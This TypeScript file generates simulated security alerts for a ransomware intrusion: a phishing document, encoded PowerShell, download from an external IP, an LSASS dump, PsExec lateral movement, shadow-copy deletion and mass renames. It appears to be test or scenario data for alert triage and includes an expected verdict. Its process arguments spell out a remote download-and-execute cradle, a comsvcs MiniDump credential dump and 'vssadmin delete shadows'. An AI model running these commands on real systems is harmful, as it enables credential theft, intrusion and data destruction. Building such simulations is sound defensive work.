/**
 * Phishing document → Office spawns encoded PowerShell → download from an external IP → LSASS dump →
 * PsExec lateral movement from host A to host B → shadow-copy deletion and mass renames on B.
 * Link across hosts: A's lateral-movement alert has `source.ip` = A, B's tool-transfer alert has
 * `destination.ip` = A (B pulls the payload from A's admin share).
 */
import { encodePowerShell, endpointProcessStart, eventEcs, fileEcs, hostEcs, mergeEcs, networkEcs, processEcs, userEcs } from '../ecs';
import { SCENARIO_RULES as R } from '../rules';
import { HOUR, MINUTE, type Scenario, type ScenarioAlertSpec } from './context';

export const C2_IP = '185.220.101.47';

export const ransomwareScenario: Scenario = {
  id: 'ransomware',
  story: 'Phishing document leads to encoded PowerShell, credential dumping, PsExec lateral movement and encryption on a file server.',
  verdict: 'true_positive',
  build(ctx) {
    const { prng, estate } = ctx;
    const hostA = ctx.takeHost('windows', 'ws-');
    const hostB = ctx.takeHost('windows', 'srv-file');
    const victim = ctx.takeUser();
    const admin = { name: 'adm-rwalker', id: 'S-1-5-21-3623811015-3361044348-30300820-2201', domain: 'CORP', fullName: 'R. Walker (admin)' };
    const system = estate.traps.system;
    const t0 = ctx.now - 20 * HOUR + prng.int(0, 30) * MINUTE;
    const doc = `C:\\Users\\${victim.name}\\Downloads\\Invoice_${prng.int(1000, 9999)}.docm`;
    const script = `IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}/a.ps1')`;
    const encoded = encodePowerShell(script);
    // The same encoded command line runs in three alerts of the chain.
    const encodedPowerShell = () => ({
      name: 'powershell.exe',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded],
    });
    const payload = 'C:\\ProgramData\\svchelper.exe';

    const onA = (role: string, spec: Omit<ScenarioAlertSpec, 'role'>): ScenarioAlertSpec => ({ ...spec, role });
    const alerts: ScenarioAlertSpec[] = [
      onA('phishing-document', {
        rule: R.phishingAttachment,
        timestamp: t0,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['file'], type: ['creation'], action: 'creation', dataset: 'endpoint.events.file', module: 'endpoint' }),
          processEcs(prng, { name: 'OUTLOOK.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', args: ['OUTLOOK.EXE'], parent: { name: 'explorer.exe' } }),
          fileEcs(prng, doc),
        ),
      }),
      onA('office-spawns-powershell', {
        rule: R.officeChild,
        timestamp: t0 + 2 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, {
            ...encodedPowerShell(),
            workingDirectory: `C:\\Users\\${victim.name}\\Documents`,
            parent: { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', args: ['WINWORD.EXE', '/n', doc] },
          }),
        ),
      }),
      onA('encoded-powershell', {
        rule: R.encodedPowerShell,
        timestamp: t0 + 2 * MINUTE + 5_000,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, {
            ...encodedPowerShell(),
            parent: { name: 'WINWORD.EXE' },
          }),
        ),
      }),
      onA('download-from-external-ip', {
        rule: R.powershellDownload,
        timestamp: t0 + 4 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, { ...encodedPowerShell(), parent: { name: 'WINWORD.EXE' } }),
          networkEcs({ sourceIp: hostA.ip, destinationIp: C2_IP, destinationPort: 80, protocol: 'http', direction: 'egress', bytes: 482_113, destinationGeo: { country: 'DE', city: 'Frankfurt' }, destinationAs: { number: 208294, org: 'Example Bulletproof Hosting' } }),
          fileEcs(prng, payload),
        ),
      }),
      onA('lsass-dump', {
        rule: R.lsassAccess,
        timestamp: t0 + 15 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['process'], type: ['access'], action: 'api', dataset: 'endpoint.events.api', module: 'endpoint' }),
          processEcs(prng, {
            name: 'rundll32.exe',
            executable: 'C:\\Windows\\System32\\rundll32.exe',
            args: ['rundll32.exe', 'C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '712', 'C:\\ProgramData\\lsass.dmp', 'full'],
            parent: { name: 'svchelper.exe', executable: payload },
          }),
          { Target: { process: { name: 'lsass.exe', pid: 712 } } },
        ),
      }),
      onA('lateral-movement-source', {
        rule: R.psexecLateral,
        timestamp: t0 + 35 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(admin),
          eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, { name: 'PsExec64.exe', executable: 'C:\\ProgramData\\PsExec64.exe', args: ['PsExec64.exe', `\\\\${hostB.name}`, '-s', '-d', 'C:\\Windows\\svchelper.exe'], parent: { name: 'svchelper.exe', executable: payload } }),
          networkEcs({ sourceIp: hostA.ip, destinationIp: hostB.ip, destinationPort: 445, protocol: 'smb', direction: 'internal' }),
        ),
      }),
      {
        role: 'remote-service-installed',
        rule: R.remoteServiceInstalled,
        timestamp: t0 + 35 * MINUTE + 20_000,
        traps: ['user.name=SYSTEM'],
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(system),
          eventEcs(prng, endpointProcessStart({ code: '7045' })),
          processEcs(prng, { name: 'PSEXESVC.exe', executable: 'C:\\Windows\\PSEXESVC.exe', args: ['C:\\Windows\\PSEXESVC.exe'], parent: { name: 'services.exe', executable: 'C:\\Windows\\System32\\services.exe' } }),
          networkEcs({ sourceIp: hostA.ip, destinationIp: hostB.ip, destinationPort: 445, protocol: 'smb', direction: 'ingress' }),
        ),
      },
      {
        role: 'lateral-movement-target',
        rule: R.toolFromShare,
        timestamp: t0 + 36 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(admin),
          eventEcs(prng, { category: ['network', 'file'], type: ['connection', 'creation'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', args: ['cmd.exe', '/c', 'copy', `\\\\${hostA.name}\\ADMIN$\\Temp\\locker.exe`, 'C:\\Windows\\Temp\\locker.exe'], parent: { name: 'PSEXESVC.exe', executable: 'C:\\Windows\\PSEXESVC.exe' } }),
          networkEcs({ sourceIp: hostB.ip, destinationIp: hostA.ip, destinationPort: 445, protocol: 'smb', direction: 'internal' }),
          fileEcs(prng, 'C:\\Windows\\Temp\\locker.exe'),
        ),
      },
      {
        role: 'shadow-copy-deletion',
        rule: R.shadowCopyDeletion,
        timestamp: t0 + 48 * MINUTE,
        traps: ['user.name=SYSTEM'],
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(system),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, { name: 'vssadmin.exe', executable: 'C:\\Windows\\System32\\vssadmin.exe', args: ['vssadmin.exe', 'delete', 'shadows', '/all', '/quiet'], parent: { name: 'locker.exe', executable: 'C:\\Windows\\Temp\\locker.exe' } }),
        ),
      },
      {
        role: 'mass-file-rename',
        rule: R.massRename,
        timestamp: t0 + 50 * MINUTE,
        traps: ['user.name=SYSTEM'],
        extra: { 'kibana.alert.threshold_result.count': 4812, 'kibana.alert.threshold_result.terms': [{ field: 'process.entity_id', value: 'locker' }] },
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(system),
          eventEcs(prng, { category: ['file'], type: ['change'], action: 'rename', dataset: 'endpoint.events.file', module: 'endpoint' }),
          processEcs(prng, { name: 'locker.exe', executable: 'C:\\Windows\\Temp\\locker.exe', args: ['C:\\Windows\\Temp\\locker.exe', '--path', 'D:\\Shares'], parent: { name: 'cmd.exe' } }),
          fileEcs(prng, 'D:\\Shares\\Finance\\Q3-forecast.xlsx.lockd', { extension: 'lockd' }),
        ),
      },
    ];
    return { incident: 'ransomware-1', alerts };
  },
};
